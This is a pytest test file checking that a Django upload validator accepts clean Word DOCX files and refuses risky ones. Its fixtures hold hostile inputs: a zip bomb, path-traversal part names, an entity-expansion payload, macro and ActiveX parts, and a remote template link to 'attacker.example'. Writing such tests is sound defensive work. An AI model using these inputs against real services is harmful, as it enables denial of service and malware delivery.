"""A field that allows it takes a Word document (DOCX), recognised by its content, its archive
checked before any part of it is read, and refused when it carries macros, controls,
embedded objects or content fetched from elsewhere; existing fields stay PDF only."""

import io
import zipfile

import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from cases import clocks, services
from cases.models import CaseLetter, StoredDocument
from dhr.uploads import PDF_OR_DOCX, DocumentField, Kind, Scan, check_document
from tests.case_factories import PDF_BYTES, case_under_review, partnership_with_staff

pytestmark = pytest.mark.django_db

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
COMPOUND_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def content_types(main: str = WORD_MAIN, extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
    )


def relationships(*items: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(items)
        + "</Relationships>"
    )


PACKAGE_RELS = relationships(
    f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/officeDocument" Target="word/document.xml"/>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Minutes of the panel's first meeting.</w:t></w:r></w:p>"
    "</w:body></w:document>"
)


def docx_bytes(
    *extra_parts: tuple[str | zipfile.ZipInfo, bytes | str],
    types: str | None = None,
    leave_out: str = "",
) -> bytes:
    """A minimal Word document, as Word writes it, with `extra_parts` added."""
    parts = [
        ("[Content_Types].xml", types or content_types()),
        ("_rels/.rels", PACKAGE_RELS),
        ("word/document.xml", DOCUMENT),
        *extra_parts,
    ]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts:
            if name != leave_out:
                archive.writestr(name, data)
    return out.getvalue()


def docx_upload(content: bytes, name: str = "minutes.docx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


class MinutesForm(forms.Form):
    minutes = DocumentField(what="the minutes", kinds=PDF_OR_DOCX, label="The minutes")


def minutes_form_errors(content: bytes) -> list[str]:
    form = MinutesForm(files={"minutes": docx_upload(content)})
    assert not form.is_valid()
    return form.errors["minutes"]


def refusal_code(content: bytes) -> str:
    with pytest.raises(ValidationError) as refused:
        check_document(docx_upload(content), what="the minutes", kinds=PDF_OR_DOCX)
    return refused.value.code


# Accepted ---------------------------------------------------------------------------------


def test_a_word_document_is_accepted_where_the_field_allows_it():
    hyperlink = relationships(
        f'<Relationship Id="rId9" Type="{RELATIONSHIPS}/hyperlink" '
        'Target="https://www.gov.uk/" TargetMode="External"/>'
    )
    form = MinutesForm(
        files={"minutes": docx_upload(docx_bytes(("word/_rels/document.xml.rels", hyperlink)))}
    )

    assert form.is_valid(), form.errors
    assert form.cleaned_data["minutes"].document_check.kind == Kind.DOCX


def test_a_pdf_is_still_accepted_where_word_documents_are():
    form = MinutesForm(files={"minutes": docx_upload(PDF_BYTES, name="minutes.pdf")})

    assert form.is_valid(), form.errors
    assert form.cleaned_data["minutes"].document_check.kind == Kind.PDF


def test_a_field_that_does_not_say_stays_pdf_only():
    class LetterForm(forms.Form):
        copy = DocumentField(what="the letter")

    form = LetterForm(files={"copy": docx_upload(docx_bytes(), name="letter.docx")})

    assert form.errors["copy"] == ["The copy of the letter must be a PDF."]
    assert 'accept="application/pdf"' in str(form["copy"])
    assert "A PDF file, 10 MB at most." in str(LetterForm()["copy"].help_text)
    assert "A PDF or Word (DOCX) file, 10 MB at most." in str(MinutesForm()["minutes"].help_text)


def test_a_word_document_is_stored_as_one_under_a_random_name(settings):
    partnership, officer, _ = partnership_with_staff()
    case = case_under_review(partnership, officer)
    upload = docx_upload(docx_bytes(), name="Letter to the Home Office.docx")
    check_document(upload, what="the letter", kinds=PDF_OR_DOCX)

    services.record_letter(
        case=case,
        by=officer,
        recipient="home_office",
        sent_on=clocks.today(),
        method="email",
        copy=upload,
    )

    letter = CaseLetter.objects.get()
    assert letter.copy.name.startswith("letters/") and letter.copy.name.endswith(".docx")
    assert "Home" not in letter.copy.name
    stored = StoredDocument.objects.get()
    assert (stored.name, stored.case, stored.kind) == (letter.copy.name, case, Kind.DOCX)
    assert stored.scan == Scan.NOT_SCANNED


# Refused, by type -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        b"Minutes of the meeting, as plain text",
        # A ZIP that is not an Office document at all.
        docx_bytes(leave_out="[Content_Types].xml"),
        # An Office document that is not a Word one (a workbook).
        docx_bytes(
            ("xl/workbook.xml", "<workbook/>"),
            types=content_types().replace('PartName="/word/document.xml"', 'PartName="/x"'),
            leave_out="word/document.xml",
        ),
        # A Word template rather than a document.
        docx_bytes(types=content_types(main=WORD_MAIN.replace(".document.", ".template."))),
    ],
    ids=["png-named-docx", "text", "plain-zip", "workbook", "template"],
)
def test_what_is_not_a_word_document_is_refused_whatever_its_name(content):
    assert minutes_form_errors(content) == [
        "The copy of the minutes must be a PDF or a Word document (DOCX)."
    ]


def test_an_older_word_document_is_refused_with_what_to_do():
    [message] = minutes_form_errors(COMPOUND_FILE)

    assert message.startswith("The copy of the minutes is an older Word document (.doc).")


def test_a_word_document_with_a_password_is_refused():
    encrypted = COMPOUND_FILE + "EncryptedPackage".encode("utf-16-le") + b"\0" * 64

    assert minutes_form_errors(encrypted) == [
        "The copy of the minutes is protected by a password. Upload a copy without one."
    ]


def with_encrypted_part(content: bytes, name: str) -> bytes:
    """`content` with the part `name` flagged as encrypted (bit 0 of its flags), in its
    local header and in the central directory, as an encrypting ZIP tool writes it (Python's
    zipfile writes no encrypted parts)."""
    data = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        local_header = archive.getinfo(name).header_offset
    data[local_header + 6] |= 0x1
    directory_entry = data.index(b"PK\x01\x02")
    while not data[directory_entry + 46 :].startswith(name.encode()):
        directory_entry = data.index(b"PK\x01\x02", directory_entry + 4)
    data[directory_entry + 8] |= 0x1
    return bytes(data)


def test_an_encrypted_part_is_refused():
    content = with_encrypted_part(docx_bytes(("word/styles.xml", "<styles/>")), "word/styles.xml")

    assert refusal_code(content) == "encrypted"


# Refused, the archive (before any part is read) -------------------------------------------


def test_a_zip_bomb_is_refused_by_its_compression_ratio():
    # 20 MB of zeros packs into some 20 kB: a ratio of about a thousand.
    bomb = docx_bytes(("word/media/image1.png", b"\0" * (20 * 1024 * 1024)))

    [message] = minutes_form_errors(bomb)

    assert message.startswith("The copy of the minutes is packed far tighter than a Word")


def test_an_archive_that_expands_past_the_limit_is_refused(settings):
    settings.DHR_DOCX_MAX_EXPANDED_BYTES = 1024 * 1024
    # Incompressible, so within the ratio: only its expanded size is too much.
    picture = (b"\x8f\x13\xa7" * 400_000)[:1_100_000]
    stored = zipfile.ZipInfo("word/media/image1.jpeg")

    [message] = minutes_form_errors(docx_bytes((stored, picture)))

    assert message == (
        "The copy of the minutes would take up more than 1 MB when opened. Save it again with "
        "smaller pictures, or as a PDF, and upload that."
    )


def test_an_archive_of_too_many_parts_is_refused(settings):
    settings.DHR_DOCX_MAX_ENTRIES = 10
    parts = [(f"word/media/image{n}.png", b"picture") for n in range(8)]

    assert refusal_code(docx_bytes(*parts)) == "too_many_parts"


@pytest.mark.parametrize(
    "name",
    ["../../etc/cron.d/job", "/etc/passwd", "word\\..\\..\\evil.xml", "C:/Windows/evil.xml"],
    ids=["dot-dot", "absolute", "backslash", "drive-letter"],
)
def test_a_part_whose_name_leaves_the_document_is_refused(name):
    [message] = minutes_form_errors(docx_bytes((name, "<x/>")))

    assert message.startswith("The copy of the minutes has a part whose name points outside")


def test_a_part_that_is_not_what_the_directory_says_is_refused():
    content = bytearray(docx_bytes((zipfile.ZipInfo("word/notes.xml"), "<notes>" + "n" * 500)))
    start = content.index(b"<notes>")
    content[start + 100 : start + 110] = b"XXXXXXXXXX"  # the CRC no longer matches

    assert refusal_code(bytes(content)) == "damaged"


def test_a_part_that_declares_entities_is_refused_before_it_is_parsed():
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Types>&b;</Types>'
    )

    assert refusal_code(docx_bytes(types=laughs)) == "damaged"


# Refused, what could run ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            docx_bytes(("word/vbaProject.bin", b"\xcc\x61 VBA")),
            "The copy of the minutes contains macros, which could run when it is opened.",
        ),
        (
            # A .docm renamed .docx: its main part says it is macro-enabled.
            docx_bytes(types=content_types(main=DOCM_MAIN)),
            "The copy of the minutes contains macros, which could run when it is opened.",
        ),
        (
            docx_bytes(
                ("word/activeX/activeX1.xml", "<ax:ocx/>"),
                ("word/activeX/activeX1.bin", b"\0control"),
            ),
            "The copy of the minutes contains ActiveX controls",
        ),
        (
            docx_bytes(("word/embeddings/oleObject1.bin", COMPOUND_FILE)),
            "The copy of the minutes has other files or objects embedded in it.",
        ),
        (
            docx_bytes(
                (
                    "word/_rels/settings.xml.rels",
                    relationships(
                        f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/attachedTemplate" '
                        'Target="https://attacker.example/t.dotm" TargetMode="External"/>'
                    ),
                )
            ),
            "The copy of the minutes links to a template or content elsewhere",
        ),
        (
            docx_bytes(
                ("word/afchunk.mht", "MIME-Version: 1.0"),
                (
                    "word/_rels/document.xml.rels",
                    relationships(
                        f'<Relationship Id="rId5" Type="{RELATIONSHIPS}/aFChunk" '
                        'Target="afchunk.mht"/>'
                    ),
                ),
            ),
            "The copy of the minutes has other files or objects embedded in it.",
        ),
    ],
    ids=["vba-project", "docm-renamed", "activex", "ole-object", "remote-template", "alt-chunk"],
)
def test_what_could_run_when_opened_is_refused(content, message):
    [error] = minutes_form_errors(content)

    assert error.startswith(message)


def template_link(target: str) -> tuple[str, str]:
    return (
        "word/_rels/settings.xml.rels",
        relationships(
            f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/attachedTemplate" '
            f'Target="{target}" TargetMode="External"/>'
        ),
    )


@pytest.mark.parametrize(
    "target",
    ["\\\\fileserver\\templates\\minutes.dotm", "file://fileserver/templates/minutes.dotm"],
    ids=["unc-path", "file-on-another-machine"],
)
def test_a_template_on_another_machine_is_refused(target):
    assert refusal_code(docx_bytes(template_link(target))) == "external_content"


@pytest.mark.parametrize(
    "target",
    ["file:///C:\\Users\\olivia\\Templates\\Minutes.dotx", "C:\\Templates\\Minutes.dotx"],
    ids=["file-url", "drive-path"],
)
def test_a_document_made_from_a_template_on_its_authors_disk_is_accepted(target):
    form = MinutesForm(files={"minutes": docx_upload(docx_bytes(template_link(target)))})

    assert form.is_valid(), form.errors
